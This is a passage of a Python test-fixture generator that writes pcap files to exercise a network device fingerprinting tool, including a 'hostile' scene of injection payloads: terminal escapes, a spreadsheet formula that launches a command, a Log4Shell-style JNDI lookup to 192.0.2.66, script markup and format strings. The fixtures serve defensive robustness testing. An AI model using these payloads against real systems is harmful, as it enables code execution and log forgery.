    advert = struct.pack("!BBBBBBH", 0x31, 10, 120, 1, 0, 100, 0) + address("192.0.2.1")
    advert = advert[:6] + struct.pack("!H", checksum(
        address("192.0.2.2") + address("224.0.0.18") + struct.pack("!BBH", 0, 112, len(advert)) + advert)) + advert[8:]
    frames = [ethernet("01:00:5e:00:00:12", vrrp, 0x0800, ip("192.0.2.2", "224.0.0.18", 112, advert, 255)),
              asks(vrrp, "192.0.2.1", "192.0.2.1"), asks(master, "192.0.2.2", "192.0.2.9"),
              asks(hsrp, "198.51.100.1", "198.51.100.1"),
              ethernet("33:33:00:00:00:01", vrrp6, 0x86DD, icmp6(
                  "fe80::1", "ff02::1", 136, b"\xa0\0\0\0" + address("fe80::1") + b"\x02\x01" + mac(vrrp6)))]
    for index, device in enumerate((random, docker, cid, machine)):
        frames.append(asks(device, f"192.0.2.{20 + index}", "192.0.2.1"))
    for number in range(24):
        device = f"{(number * 16 + 0x12) & 0xF2 | 2:02x}:{number * 37 % 256:02x}:b6:{number:02x}:aa:55"
        frames.append(asks(device, f"192.0.2.{100 + number}", "192.0.2.1"))
    frames.append(ethernet(group + ":" + rest, machine, 0x0800, udp("192.0.2.23", 9, "192.0.2.24", 9, b"to a flagged MAC that never speaks")))
    return Scene("frames-virtual.pcap", "MACs with no maker behind them: VRRP, HSRP, random, Docker, virtual machines; "
                 "one company id", pcap(frames), [
        Device(vrrp, "192.0.2.1", "-", "arp", "VRRP group 10 for IPv4; real sender is 192.0.2.2"),
        Device(vrrp6, "fe80::1", "-", "nd", "VRRP group 10 for IPv6"),
        Device(master, "192.0.2.2", "huawei", "oui", "the VRRP master's own MAC"),
        Device(hsrp, "198.51.100.1", "-", "arp", "HSRP group 1; prefix registered to Cisco, a virtual address all the same"),
        Device(random, "192.0.2.20", "-", "arp", "random MAC of a phone"), Device(docker, "192.0.2.21", "-", "arp", "container"),
        Device(cid, "192.0.2.22", "huawei", "oui", "company id 3A-72-C2: locally administered, yet registered to Huawei (not in the MAC tables)"),
        Device(machine, "192.0.2.23", "-", "oui,arp", "virtual machine; sends to the MAC 44:19:b6:ff:ff:ff, which never speaks"),
        Device("*2,*6,*a,*e", "192.0.2.100-123", "-", "arp", "24 random locally administered MACs")])


def streams():
    huawei, hik, client = "00:e0:fc:00:04:01", "44:19:b6:00:04:02", "18:66:da:00:04:03"
    zte, lan = "00:19:c6:00:04:04", "192.0.2"

    def talk(device, last, port, turns, client_port):
        return list(by_tcp(client, f"{lan}.200", device, f"{lan}.{last}", port, turns, client_port))

    odd = talk(huawei, 1, 2222, [("server", "SSH-2.0-HUA"), ("server", "WEI-1.5\r\n")], 52001)
    swapped = talk(hik, 2, 8081, [("client", get()), ("server", "HTTP/1.1 401 Unauthorized\r\nDate: Thu, 28 May 2026 20:26:40 GMT\r\nSer"),
                                  ("server", "ver: Hikvision-Webs\r\nContent-Length: 0\r\n\r\n")], 52002)
    swapped[5], swapped[7] = swapped[7], swapped[5]
    twice = talk(zte, 4, 80, [("client", get()), ("server", page("Mini web server 1.0 ZTE corp 2005."))], 52003)
    twice[5:5] = [twice[5]]
    middle = talk(hik, 2, 80, [("client", get()), ("server", page("Hikvision-Webs")), ("client", get("/2")),
                               ("server", page("Hikvision-Webs"))], 52004)[7:]
    deep = talk(hik, 2, 554, [("client", "OPTIONS rtsp://192.0.2.2/ RTSP/1.0\r\nCSeq: 1\r\n\r\n"),
                              ("server", "RTSP/1.0 401 Unauthorized\r\nServer: HiIpcam/V100R003 VodServer/1.0.0\r\n\r\n")], 52005)
    return Scene("frames-streams.pcap", "TCP as it comes: odd ports, split banners, out of order, sent twice, joined in "
                 "the middle", pcap(odd + swapped + twice + middle + deep), [
        Device(huawei, "192.0.2.1", "huawei", "oui,ssh", "banner on port 2222 in two segments"),
        Device(hik, "192.0.2.2", "hikvision", "oui,http", "head on 8081 cut inside a field name and out of order; joined in the middle on 80"),
        Device(zte, "192.0.2.4", "zte", "oui,http", "answer sent twice"),
        Device(client, "192.0.2.200", "-", "oui,http", "Dell PC")])


# --- hostile ---------------------------------------------------------------------------------------------

def hostile():
    lldp_mac, http_mac, csv, broken, nul, names = (f"00:1e:73:00:05:0{n}" for n in range(1, 7))
    page_mac, sadp_mac, victim = "44:19:b6:00:05:07", "44:19:b6:00:05:08", "18:66:da:00:05:09"
    escape = "\x1b]0;owned\x07\x1b[2J\x1b[31mZXR10\x1b[0m\r\nkind\":\"alert\"\n{\"kind\":\"alert\",\"id\":\"forged\"}"
    frames = [
        ethernet(LLDP_GROUP, lldp_mac, 0x88CC, lldp(lldp_mac, "p\n1", "sw\x1b[8m", escape, "192.0.2.1")),
        ethernet(LLDP_GROUP, csv, 0x88CC, lldp(csv, "@SUM(1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://192.0.2.66\")", "192.0.2.3")),
        ethernet(LLDP_GROUP, broken, 0x88CC, lldp(broken, b"\xff\xfe", b"\xc0\xaf\xed\xa0\x80", b"ZXR10 \xf5\x80\x80\x80 \xe2\x28\xa1 \xe2\x80\xae01RXZ", "192.0.2.4")),
        ethernet(LLDP_GROUP, nul, 0x88CC, lldp(nul, "p1", b"sw\0itch", b"ZXR10\0<script>alert(1)</script>\0", "192.0.2.5")),
        ethernet(LLDP_GROUP, names, 0x88CC, lldp(names, "%s%n%x", "CEF:0|a|b|c|d|e|9|x=1", "A" * 511, "192.0.2.6"))]
    frames += by_tcp(victim, "192.0.2.9", http_mac, "192.0.2.2", 80, [
        ("client", get(agent="\x1b[1m${jndi:ldap://192.0.2.66/a}")),
        ("server", b"HTTP/1.1 200 OK\r\nServer: ZTE corp\0\x1b[5m\x9b31m\r\nX-Powered-By: =1+1\r\nSet-Cookie: a\r\n\r\n")])
    frames += by_tcp(victim, "192.0.2.9", page_mac, "192.0.2.7", 80, [
        ("client", get()), ("server", "HTTP/1.1 401 No\r\nServer: <img src=x onerror=alert(1)>\r\n"
                            "WWW-Authenticate: Digest realm=\"IP Camera(</script><b>)\"\r\n\r\n")], 50001)
    frames += by_tcp(victim, "192.0.2.9", page_mac, "192.0.2.7", 8080, [
        ("client", get()), ("server", "HTTP/1.1 200 OK\r\nServer: " + "a" * 1300)], 50002)
    frames.append(by_udp(sadp_mac, "192.0.2.8", 37020, ALL_SSDP, 37020, sadp_answer(
        sadp_mac, "DS-2CD\x1b[0m&lt;x&gt;", "<![CDATA[]]><!ENTITY a 'b'>", "999.1.1.1", "x", "V5\n=1+1")))
    frames.append(by_udp(sadp_mac, "192.0.2.8", 37810, ALL_DHIP, 37810, b"\x20\0\0\0DHIP" + b"\0" * 8 + struct.pack(
        "<IIII", 0xFFFFFFFF, 0, 60, 0) + b'{"params":{"deviceInfo":{"Vendor":"\\u001b[2J\\ud800' + b'{"a":' * 5))
    return Scene("hostile.pcap", "Words meant to harm whoever prints them: ANSI escapes, line feeds, formulas, broken UTF-8, "
                 "NUL, markup, format strings, forged records", pcap(frames), [
        Device(lldp_mac, "192.0.2.1", "zte", "oui,lldp", "escapes, line feeds, a forged JSON record; says ZXR10"),
        Device(http_mac, "192.0.2.2", "zte", "oui,http", "NUL and C1 in the Server line"),
        Device(csv, "192.0.2.3", "zte", "oui", "name =cmd|..., port @SUM(1)"),
        Device(broken, "192.0.2.4", "zte", "oui,lldp", "invalid UTF-8, overlong, surrogate, right-to-left mark"),
        Device(nul, "192.0.2.5", "zte", "oui,lldp", "NUL and a script in name and description"),
        Device(names, "192.0.2.6", "zte", "oui", "format strings, a forged CEF head, 511 octets"),
        Device(page_mac, "192.0.2.7", "hikvision", "oui,http", "markup in Server and realm; a Server line without end"),
        Device(sadp_mac, "192.0.2.8", "hikvision", "oui,sadp", "entities and escapes in SADP; a DHIP length of 4 GiB"),
        Device(victim, "192.0.2.9", "-", "oui,http", "Dell PC; user agent with an escape and a look-up string")])


def malformed():
    source, host, target = "44:19:b6:00:06:01", "192.0.2.61", BROADCAST
    whole = lldp(source, "p1", "name", "description", host)

    def raw(kind, payload, tags=()):
        return ethernet(target, source, kind, payload, tags)

    def port(number, payload, goal=ALL_SSDP):
        return by_udp(source, host, number, goal, number, payload)

    name_loop = struct.pack("!HHHHHH", 0, 0x8400, 0, 1, 0, 0) + b"\xc0\x0c" + struct.pack("!HHIH", 12, 1, 120, 2) + b"\xc0\x0c"
    ip_long = ip(host, "192.0.2.9", 17, b"\0" * 8)
    frames = [raw(0x88CC, b"\x02\x07\x04" + mac(source) + b"\x0d\xff\x58"), raw(0x88CC, whole[:30]), raw(0x88CC, b""),
              raw(0x88CC, b"\0\0"), raw(0x88CC, lldp_tlv(127, b"\0\x12")), raw(0x0806, arp(1, source, host, target, host)[:12]),
              raw(0x0806, b"\0\1\x08\0\xff\xff\0\1"), port(5353, name_loop, ALL_MDNS), port(5353, b"\0" * 11, ALL_MDNS),
              port(5353, struct.pack("!HHHHHH", 0, 0x8400, 65535, 65535, 65535, 65535), ALL_MDNS),
              port(161, b"\x30\x84\xff\xff\xff\xff\x02\x01\x01"), port(161, b"\x30\x80\x02\x01\x01\x04\x06public\0\0"),
              port(161, b"\x30" * 200), port(162, snmp_trap1("1.3.6.1.4.1.2011", host)[:20]),
              port(67, dhcp(1, source, [(60, "x")])[:200], ALL_DHCP),
              port(67, dhcp(1, source, [(60, "x")]).rstrip(b"\0")[:-1] + b"\x0c\xffshort", ALL_DHCP),
              port(67, b"\1\1\xff" + b"\0" * 240, ALL_DHCP), port(37020, "<ProbeMatch><MAC>44-19-b6"),
              port(37020, "<" * 900), port(37020, "<Types>" + "x" * 1200), port(37810, b"\x20\0\0\0DHIP"),
              port(37810, b"\x20\0\0\0DHIP" + b"\xff" * 24 + b"{" * 400), port(1900, "NOTIFY"), port(1900, "\r\n" * 300),
              raw(0x8033, b"\x21"), raw(0x8033, sadp_raw(True, 255, source, host, target, host, host, b"\xff" * 60)),
              raw(0x0806, arp(1, source, host, target, host), [(0x8100, number) for number in range(1, 17)]),
              raw(0x0800, ip_long[:10]), raw(0x0800, b"\x4f" + ip_long[1:]), raw(0x0800, b"\x41" + ip_long[1:]),
              raw(0x0800, ip_long[:2] + b"\xff\xff" + ip_long[4:]), raw(0x0800, ip(host, "192.0.2.9", 17, b"\xff" * 40, fragment=0x3FFF)),
              raw(0x0800, ip(host, "192.0.2.9", 6, tcp(host, 1, "192.0.2.9", 2, ACK, 0, 0, b"SSH-")[20:32] + b"\xf0\x10" + b"\0" * 4)),
              raw(0x86DD, struct.pack("!IHBB", 6 << 28, 64, 0, 64) + address("fe80::1") + address("ff02::1") + b"\0\0\0\0\0\0\0\0" * 8),
              raw(0x86DD, icmp6("fe80::1", "ff02::1", 134, struct.pack("!BBHII", 64, 0, 0, 0, 0) + b"\x01\0\0\0")),
              raw(0x86DD, udp("fe80::1", 546, "ff02::1:2", 547, b"\x01\0\0\0" + struct.pack("!HH", 1, 65535) + b"\0\2")),
              raw(0x86DD, udp("fe80::1", 547, "ff02::1:2", 547, (b"\x0c\0" + b"\0" * 32 + b"\0\x09\0\x40") * 12)),
              snap(CDP_GROUP, source, 0x00000C, 0x2000, b"\x02\xb4\0\0\0\1\0\0"),
              snap(CDP_GROUP, source, 0x00000C, 0x2000, b"\x02\xb4\0\0\0\2\0\x0c\xff\xff\xff\xff\0\0\0\0"),
              mac(target) + mac(source), b"\x01", mac(target) + mac(source) + b"\x81\0"]
    return Scene("hostile-malformed.pcap", "Broken messages of every protocol: lengths beyond the end, loops, endless nesting, "
                 "cut headers", pcap(frames), [
        Device(source, "192.0.2.61", "hikvision", "oui", "sends only broken messages; its MAC and IP headers are mostly whole")])


def broken_files():
    whole = pcap([ethernet(t, s, k, p) for s, t, k, p in small_packets()])
    camera = [Device(CAMERA, "192.0.2.21", "hikvision", "oui", "in the whole packets before the cut")]
    yield Scene("hostile-cut.pcap", "ends in the middle of the second packet (a capture that was killed)", whole[:24 + 16 + 60 + 16 + 100], camera)
    yield Scene("hostile-cut-head.pcap", "ends in the middle of a packet's head", whole[:24 + 16 + 60 + 7], camera)
    yield Scene("hostile-length.pcap", "second packet claims 2 GiB", whole[:24 + 16 + 60 + 8] + b"\xff\xff\xff\x7f" * 2 + whole[-50:], camera)
    yield Scene("hostile-empty.pcap", "a file head and no packet", whole[:24])
    yield Scene("hostile-nothing.pcap", "no octet at all", b"")
    yield Scene("hostile-text.pcap", "no capture: text", b"This is no capture.\nServer: Hikvision-Webs\n" * 5)
    yield Scene("hostile-link.pcap", "a link type that we do not read (12345)", pcap([b"\0" * 60], 12345))
    small = pcapng([("tap0", LINK_ETHERNET, 6)], [(0, ethernet(t, s, k, p)) for s, t, k, p in small_packets()])
    yield Scene("hostile-cut.pcapng", "pcapng, ends in the middle of a block", small[:len(small) - 33], small_truth(" (the last packet is lost)"))
    yield Scene("hostile-cut.pcap.gz", "gzip, cut in the middle of its stream", gzip.compress(whole, mtime=0)[:300])


def scenes():
    for scene in (cameras, switches, tags, wifi, dhcp_scene, clients, routed, virtual, streams, hostile, malformed):
        yield scene()
    yield from formats()
    yield from broken_files()


def main(folder):
    for scene in scenes():
        (folder / scene.file).write_bytes(scene.data)
        print(f"#{scene.file}\t{scene.about}")
        for device in scene.devices:
            print("\t".join((scene.file, device.mac or "-", device.ip or "-", device.supplier, device.evidence or "-", device.note)))


if __name__ == "__main__":
    main(Path(sys.argv[1]))
